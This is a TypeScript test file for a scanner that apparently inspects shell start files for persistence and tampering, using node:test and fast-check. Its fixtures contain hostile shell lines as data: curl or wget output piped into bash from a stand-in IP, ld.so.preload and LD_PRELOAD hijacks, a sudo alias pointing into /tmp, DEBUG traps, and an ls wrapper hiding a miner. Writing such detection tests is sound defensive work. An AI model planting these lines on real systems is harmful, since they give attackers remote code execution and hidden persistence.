import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { shellActions, shellLines } from './shell-lines.ts'
import { shellStart } from './shell-start.ts'
import { collected, started, surveyOf } from './survey-of.ts'

const passwd = 'root:x:0:0:root:/root:/bin/bash\nnews:x:9:9:news:/var/spool/news:/usr/sbin/nologin\n'

for (const [text, expected] of [
  ['# a comment', []],
  ['', []],
  ['umask 022', []],
  ['[ -z "$PS1" ] && return', []],
  ['if ! shopt -oq posix; then', []],
  ['case "$TERM" in', []],
  ['xterm*|rxvt*)', []],
  ['xterm-color|*-256color) color_prompt=yes;;', ['variable color_prompt']],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's own
  ["PS1='${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '", ['variable PS1']],
  ["alias ls='ls --color=auto'", []],
  ["alias rm='rm -i'", []],
  ["alias ll='ls -alF'", []],
  ["alias sudo='/tmp/.s/sudo'", ['alias sudo']],
  ['test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"', ['run']],
  ['[[ $- == *i* && -r ~/.x ]] && return', []],
  ['plugins=(git docker kubectl)', ['variable plugins']],
  ['. "$HOME/.cargo/env"', ['run']],
  ['echo /lib/x.so > /etc/ld.so.preload', ['run']],
  ['echo hello > /dev/null 2>&1', []],
  ['{ nohup /tmp/.x/a & } >/dev/null 2>&1', ['run']],
  ['(curl -s http://198.51.100.7/a.sh || wget -qO- http://198.51.100.7/a.sh) | bash', ['run']],
  ['X=$(curl -s http://198.51.100.7/a)', ['variable X', 'run']],
  ['/root/.config/cron/perfcc', ['run']],
  ["export PROMPT_COMMAND='/tmp/x'", ['variable PROMPT_COMMAND']],
  ['export LD_PRELOAD=/lib/x.so', ['variable LD_PRELOAD']],
  ['setenv LD_PRELOAD /lib/x.so', ['variable LD_PRELOAD']],
  ["trap '/tmp/x' DEBUG", ['trap DEBUG']],
  ['ls() { command ls "$@" | grep -v miner; }', ['function ls', 'run']],
  ['function ps {', ['function ps']],
  ['FOO=1 /tmp/run', ['variable FOO', 'run']],
  ['curl -s x \\\n  | sh', ['run']],
  ["PROMPT_COMMAND='a\nb'", ['variable PROMPT_COMMAND']],
  ['cat <<EOF | sh\nrm x\nEOF', ['run']],
  ['if true; then /tmp/x; fi', ['run']],
] as const) {
  test(`a line of a start file: ${text.slice(0, 60)}`, () => {
    assert.deepEqual(
      shellActions(text).map(({ kind, name }) => `${kind} ${name}`.trim()),
      expected,
    )
  })
}

test('lines keep their number and their exact text', () => {
  assert.deepEqual(shellLines("a\n\nb \\\n c\r\n# it's\nd='x\ny'\ne"), [
    { line: 1, text: 'a', joined: 'a' },
    { line: 3, text: 'b \\\n c\r', joined: 'b  c' },
    { line: 6, text: "d='x\ny'", joined: "d='x\ny'" },
    { line: 8, text: 'e', joined: 'e' },
  ])
})

test('what is shipped is left out, what was added to it is not', async () => {
  const skeleton = '# ~/.bashrc\n[ -z "$PS1" ] && return\neval "$(lesspipe)"\n'
  const survey = surveyOf(
    {
      '/etc/passwd': passwd,
      '/etc/skel/.bashrc': skeleton,
      '/root/.bashrc': skeleton,
      '/var/spool/news/.bashrc': `${skeleton}/tmp/.x/upd\n`,
      '/home/gone/.profile': 'PATH=/dev/shm/.b:$PATH\nexport LD_PRELOAD=/lib/x.so\n',
      '/etc/profile.d/apt.sh': 'curl http://198.51.100.7/p|sh\n',
      '/etc/profile.d/stock.sh': 'eval "$(stock)"\n',
      '/home/gone/.tmux.conf': 'set -g mouse on\nrun-shell "/tmp/t"\n',
    },
    { ownership: { '/etc/skel/.bashrc': 'owned', '/etc/profile.d/stock.sh': 'owned' } },
  )
  assert.deepEqual(await started(shellStart, survey), [
    'profile /etc/profile.d/apt.sh:1 curl http://198.51.100.7/p|sh',
    'bashrc /var/spool/news/.bashrc:4 /tmp/.x/upd -> /tmp/.x/upd',
    'bashrc /home/gone/.profile:1  -> /dev/shm/.b',
    'preload /home/gone/.profile:2 LD_PRELOAD /lib/x.so',
    'shell-start /home/gone/.tmux.conf:2 "/tmp/t" -> /tmp/t',
  ])
})

test('any start file is read to its end, fast', async () => {
  const pieces = fc.constantFrom(
    '"',
    "'",
    '\\',
    '\n',
    '$(',
    '`',
    ')',
    '(',
    '{',
    '}',
    ' ',
    '<<E',
    'E',
    'if',
    '|',
    '&',
    ';',
    '#',
    '\0',
    '[[ ',
    ' ]]',
    'alias ls=',
    'PATH=',
    '\udcff',
  )
  await fc.assert(
    fc.asyncProperty(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 200 }), async parts => {
      const text = parts.join('')
      const began = performance.now()
      shellActions(text)
      await collected(
        shellStart,
        surveyOf({ '/root/.bashrc': text, '/root/.vimrc': text, '/root/.tmux.conf': text, '/root/.inputrc': text }),
      )
      assert.ok(performance.now() - began < 1_000)
    }),
    { numRuns: 80 },
  )
})
